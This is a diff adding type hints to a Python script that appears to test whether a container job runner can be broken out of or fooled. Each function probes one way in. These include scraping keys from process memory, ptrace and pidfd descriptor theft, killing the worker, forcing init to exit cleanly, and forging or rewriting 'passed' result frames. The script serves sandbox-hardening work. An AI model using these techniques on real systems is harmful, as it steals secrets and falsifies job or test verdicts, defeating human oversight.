@@ -4,6 +4,8 @@
 ``python3 attacks.py WAY``. Prints "open" or "closed" where there is one way in that can be tried.
 """
 
+from __future__ import annotations
+
 import ctypes
 import glob
 import json
@@ -29,13 +31,13 @@ PASSED = {
 libc = ctypes.CDLL(None, use_errno=True)
 
 
-def forge(**fields):
+def forge(**fields: object) -> None:
     """The line that would end the job."""
     with open(SPOOL + "/frames", "ab") as file:
         file.write(json.dumps(dict(PASSED, **fields)).encode() + b"\n")
 
 
-def seal_with(key):
+def seal_with(key: str) -> None:
     import hashlib
 
     text = json.dumps(PASSED).encode()
@@ -44,14 +46,14 @@ def seal_with(key):
     time.sleep(1)  # until somebody has read it, before the worker's own line follows
 
 
-def keys_in(data):
+def keys_in(data: bytes) -> set[bytes]:
     import re
 
     return set(re.findall(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])", data))
 
 
-def read_memory(pid):
-    found = set()
+def read_memory(pid: int) -> set[bytes]:
+    found: set[bytes] = set()
     with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as memory:
         for line in maps:
             area, mode = line.split()[:2]
@@ -65,12 +67,12 @@ def read_memory(pid):
     return found
 
 
-def said(is_open):
+def said(is_open: bool) -> None:
     sys.stdout.write("open" if is_open else "closed")
     sys.stdout.flush()
 
 
-def memory():
+def memory() -> None:
     try:
         found = read_memory(WORKER)
     except OSError:
@@ -80,7 +82,7 @@ def memory():
         seal_with(key.decode())
 
 
-def memory_of_init():
+def memory_of_init() -> None:
     try:
         found = read_memory(1)
     except OSError:
@@ -89,7 +91,7 @@ def memory_of_init():
         seal_with(key.decode())
 
 
-def process_vm_readv():
+def process_vm_readv() -> None:
     class Vector(ctypes.Structure):
         _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
 
@@ -100,7 +102,7 @@ def process_vm_readv():
     said(got >= 0 or ctypes.get_errno() not in (1, 3))
 
 
-def descriptors():
+def descriptors() -> None:
     try:
         names = os.listdir("/proc/%d/fd" % WORKER)
         for name in names:
@@ -112,13 +114,13 @@ def descriptors():
     said(True)
 
 
-def pidfd_getfd():
+def pidfd_getfd() -> None:
     handle = libc.syscall(434, WORKER, 0)
     got = [number for number in range(3, 40) if libc.syscall(438, handle, number, 0) >= 0]
     said(bool(got))
 
 
-def environment():
+def environment() -> None:
     try:
         with open("/proc/%d/environ" % WORKER, "rb") as file:
             file.read()
@@ -127,7 +129,7 @@ def environment():
     said(True)
 
 
-def ptrace():
+def ptrace() -> None:
     attached = libc.ptrace(16, WORKER, 0, 0) == 0
     if attached:
         os.waitpid(WORKER, 0)
@@ -135,13 +137,14 @@ def ptrace():
     said(attached)
 
 
-def guess():
-    for seal in (None, "", "0" * 64, "0" * 32, True, 0, [], {}):
+def guess() -> None:
+    seals: tuple[object, ...] = (None, "", "0" * 64, "0" * 32, True, 0, [], {})
+    for seal in seals:
         forge(seal=seal)
     forge()
 
 
-def replace_files():
+def replace_files() -> None:
     for path in glob.glob(SPOOL + "/*"):
         os.unlink(path)
     with open(SPOOL + "/job.json", "w") as file:
@@ -151,25 +154,25 @@ def replace_files():
     seal_with("00" * 32)
 
 
-def kill_worker():
+def kill_worker() -> None:
     forge()
     os.kill(WORKER, signal.SIGKILL)
 
 
-def limit_worker():
+def limit_worker() -> None:
     """No room for the worker's last frame, and one of our own instead."""
     forge()
     resource.prlimit(WORKER, resource.RLIMIT_FSIZE, (0, 0))
 
 
-def terminate_worker():
+def terminate_worker() -> None:
     forge()
     signal.signal(signal.SIGINT, signal.SIG_IGN)
     os.kill(WORKER, signal.SIGTERM)
     time.sleep(0.5)
 
 
-def end_init():
+def end_init() -> None:
     """Let the container's init call exit_group(0), so that the engine's word is that all is well."""
     forge()
     PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 12, 13, 16, 17
@@ -186,7 +189,7 @@ def end_init():
     time.sleep(30)
 
 
-def rewrite():
+def rewrite() -> None:
     """A daemon waits for the worker's word and writes "passed" over it, with the seal that it finds there."""
     if os.fork():
         return
@@ -205,7 +208,7 @@ def rewrite():
     os._exit(0)
 
 
-def key():
+def key() -> None:
     """Everything that can be read of the container's own."""
     files = {}
     for folder in (SPOOL, "/ci", "/tmp", os.environ["HOME"], "/proc/self", "/proc/1"):
